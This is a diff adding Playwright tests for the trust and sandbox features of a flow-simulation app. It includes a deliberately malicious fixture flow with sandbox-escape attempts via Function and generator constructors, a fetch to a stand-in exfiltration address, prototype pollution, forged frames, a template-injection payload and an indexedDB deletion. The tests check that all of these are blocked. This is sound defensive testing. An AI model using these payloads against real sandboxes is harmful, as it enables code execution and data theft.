@@ -1,0 +1,193 @@
+import { expect, test, type Request } from '@playwright/test';
+import { AppPage } from './pages/AppPage';
+
+const ATTEMPTS = `
+function attempt(ctx, name, f) {
+  try {
+    f();
+    ctx.log(name + ': ran');
+  } catch (error) {
+    ctx.log(name + ': blocked');
+  }
+}
+function handle(event, ctx) {
+  attempt(ctx, 'Function constructor', () => (function () {}).constructor('return this')().fetch('http://127.0.0.1:9/exfil'));
+  attempt(ctx, 'generator constructor', () => Object.getPrototypeOf(function* () {}).constructor('return this')());
+  attempt(ctx, 'ctx escape', () => ctx.log.constructor('return this')().postMessage({ kind: 'frame', frame: { cursor: 999999, head: 999999 } }));
+  attempt(ctx, 'fetch', () => fetch('http://127.0.0.1:9/exfil'));
+  attempt(ctx, 'prototype', () => { Array.prototype.reduce = () => 42; });
+  attempt(ctx, 'clock', () => Date.now());
+  attempt(ctx, 'randomness', () => Math.random());
+  ctx.state.seen = (ctx.state.seen ?? 0) + 1;
+}
+`;
+
+/** A flow someone else wrote: a handler and a template that try every way out they can. */
+function maliciousFlow(): string {
+  return JSON.stringify({
+    format: 'tidemark-flow',
+    version: 1,
+    name: 'Free analytics',
+    seed: 3,
+    nodes: [
+      {
+        id: 'trudy',
+        kind: 'producer',
+        name: 'Trudy',
+        eventType: 'Visit',
+        rate: 2,
+        payload: { page: "{{ (() => { try { (function () {}).constructor('return fetch')()('http://127.0.0.1:9/exfil'); return 'ran'; } catch (e) { return 'blocked'; } })() }}" },
+      },
+      { id: 'visits', kind: 'topic', name: 'visits' },
+      { id: 'mallory', kind: 'consumer', name: 'Mallory', latencyMs: 10 },
+      { id: 'eve', kind: 'consumer', name: 'Eve', latencyMs: 10 },
+    ],
+    edges: [
+      { id: 'trudy-visits', source: 'trudy', target: 'visits' },
+      { id: 'visits-mallory', source: 'visits', target: 'mallory' },
+      { id: 'visits-eve', source: 'visits', target: 'eve' },
+    ],
+    schemas: {},
+    code: {
+      mallory: ATTEMPTS,
+      eve: "indexedDB.deleteDatabase('tidemark');\nfunction handle(event, ctx) {}",
+    },
+    layout: { trudy: { x: 0, y: 0 }, visits: { x: 260, y: 0 }, mallory: { x: 520, y: -80 }, eve: { x: 520, y: 80 } },
+  });
+}
+
+/** A flow whose handler would throw the moment its top level is evaluated. */
+function tellTaleFlow(): string {
+  return JSON.stringify({
+    format: 'tidemark-flow',
+    version: 1,
+    name: 'Tell-tale',
+    seed: 1,
+    nodes: [
+      { id: 'p', kind: 'producer', name: 'Source', eventType: 'Ping', rate: 1, payload: { n: '{{ seq }}' } },
+      { id: 't', kind: 'topic', name: 'pings' },
+      { id: 'c', kind: 'consumer', name: 'Listener', latencyMs: 10 },
+    ],
+    edges: [
+      { id: 'p-t', source: 'p', target: 't' },
+      { id: 't-c', source: 't', target: 'c' },
+    ],
+    schemas: {},
+    code: { c: "throw new Error('the top level ran');\nfunction handle(event, ctx) {}" },
+    layout: { p: { x: 0, y: 0 }, t: { x: 260, y: 0 }, c: { x: 520, y: 0 } },
+  });
+}
+
+async function openFile(app: AppPage, name: string, text: string): Promise<void> {
+  await app.toolbar.getByLabel('Open flow file').setInputFiles({ name, mimeType: 'application/json', buffer: Buffer.from(text) });
+}
+
+test.describe('trust: a flow from anyone runs nothing until trusted, then runs where it reaches nothing', () => {
+  test('a flow opened from a file shows its code and runs none of it; Play asks first, and only Trust runs it', async ({ page }) => {
+    const app = new AppPage(page);
+    await app.goto();
+    await openFile(app, 'tell-tale.tidemark.json', tellTaleFlow());
+    await expect(app.flowName).toHaveText('Tell-tale');
+    await expect(app.restrictedBanner).toContainText('None of its code has run');
+
+    // Its code can be read, and is only parsed: the throw at its top level has not happened.
+    await app.selectNode('consumer', 'Listener');
+    await expect(app.inspector.getByText(/Handler does not compile/)).toHaveCount(0);
+
+    await app.playButton.click();
+    await expect(app.trustDialog).toBeVisible();
+    await expect(app.trustDialog.getByRole('list', { name: 'Code this flow carries' })).toContainText('Handler and decider code: Listener');
+    await expect(app.trustDialog.getByRole('list', { name: 'Code this flow carries' })).toContainText('Payload and key templates: Source');
+    await app.trustDialog.getByRole('button', { name: 'Cancel' }).click();
+    await expect(app.trustDialog).toHaveCount(0);
+    await expect(app.statusText).toHaveText(/^Step 0 of 0 · /);
+
+    await app.playButton.click();
+    await app.trustDialog.getByRole('button', { name: 'Trust and play' }).click();
+    await expect(app.pauseButton).toBeVisible();
+    await expect(app.inspector.getByRole('alert')).toHaveText('Handler does not compile: the top level ran');
+    await expect(app.restrictedBanner).toHaveCount(0);
+    await app.waitForHead(3);
+    await app.pauseAndSettle();
+
+    // Trust is remembered with the flow.
+    await app.reload();
+    await expect(app.toolbar.getByText('Trusted', { exact: true })).toBeVisible();
+  });
+
+  test('a malicious flow, once trusted, makes no request, forges nothing and leaves storage intact', async ({ page, context }) => {
+    const requests: Request[] = [];
+    context.on('request', (request) => requests.push(request));
+    const app = new AppPage(page);
+    await app.goto();
+    await openFile(app, 'free-analytics.tidemark.json', maliciousFlow());
+    await expect(app.flowName).toHaveText('Free analytics');
+    await app.selectNode('consumer', 'Eve');
+    // Parsed, not run: a name its sandbox does not offer is named before anything runs.
+    await expect(app.inspector.getByRole('alert')).toHaveText('Handler does not compile: ReferenceError: indexedDB is not defined (line 1)');
+    await app.trustFlow();
+
+    for (let i = 0; i < 8; i++) await app.step();
+    await expect(app.statusText).toHaveText(/^Step 8 of 8 · /);
+    const log = await app.readLogTail();
+    const mallory = log.filter((line) => line.node === 'Mallory');
+    expect(mallory.length).toBeGreaterThan(0);
+    const lines = await Promise.all(mallory.map((line) => app.logRow(line.step).textContent()));
+    for (const text of lines) {
+      for (const name of ['Function constructor', 'generator constructor', 'ctx escape', 'fetch', 'prototype', 'clock', 'randomness']) expect(text).toContain(`${name}: blocked`);
+      expect(text).not.toContain(': ran');
+    }
+    await expect(app.logRows().filter({ hasText: 'Visit' }).first()).toBeVisible();
+    await app.selectNode('producer', 'Trudy');
+    // No frame forged: the toolbar shows the engine's own count, never the 999999 the handler tried to post.
+    await expect(app.statusText).toHaveText(/^Step 8 of 8 · /);
+    const paused = await app.status();
+
+    // Nothing left this page: every request went to the app's own origin, none to the exfiltration address.
+    const origin = new URL(page.url()).origin;
+    expect(requests.filter((r) => new URL(r.url()).origin !== origin).map((r) => r.url())).toEqual([]);
+    expect(requests.filter((r) => r.url().includes('exfil'))).toEqual([]);
+
+    // Storage intact: the database is there at its own version, and a reload restores the run as it was.
+    expect(await page.evaluate(async () => (await indexedDB.databases()).map((d) => `${d.name}@${d.version}`))).toContain('tidemark@2');
+    await app.reload();
+    await expect(app.flowName).toHaveText('Free analytics');
+    await expect(app.statusText).toHaveText(paused.text);
+  });
+
+  test('a handler with an endless loop fails its deliveries, naming the loop, and the app stays responsive', async ({ page }) => {
+    const app = new AppPage(page);
+    await app.goto();
+    const flow = JSON.parse(tellTaleFlow()) as { code: Record<string, string>; name: string };
+    flow.name = 'Spinner';
+    flow.code.c = 'function handle(event, ctx) { while (true) {} }';
+    await openFile(app, 'spinner.tidemark.json', JSON.stringify(flow));
+    await app.trustFlow();
+    for (let i = 0; i < 3; i++) await app.step();
+    await expect(app.nodeCard('consumer', 'Listener')).toContainText(/failed\s*1/);
+    await expect(app.logRows().filter({ hasText: 'stopped after 10,000,000 loop iterations' }).first()).toBeVisible();
+  });
+
+  test('opening an example over a stored run asks first; keeping it changes nothing', async ({ page }) => {
+    const app = new AppPage(page);
+    await app.goto();
+    await app.setSpeed('100×');
+    await app.play();
+    await app.waitForHead(10);
+    const paused = await app.pauseAndSettle();
+
+    await app.goto('/?example=consumer-group');
+    await expect(app.replaceDialog).toContainText(/its run \([\d,]+ steps on 1 branch\) would be deleted/);
+    await app.answerReplace('Keep');
+    await expect(app.flowName).toHaveText('Orders');
+    await expect(app.statusText).toHaveText(paused.text);
+    await app.reload();
+    await expect(app.flowName).toHaveText('Orders');
+    await expect(app.statusText).toHaveText(paused.text);
+
+    await app.goto('/?example=consumer-group');
+    await app.answerReplace('Replace it');
+    await expect(app.flowName).toHaveText('Consumer group rebalance');
+    await expect(app.statusText).toHaveText(/^Step 0 of 0 · /);
+  });
+});
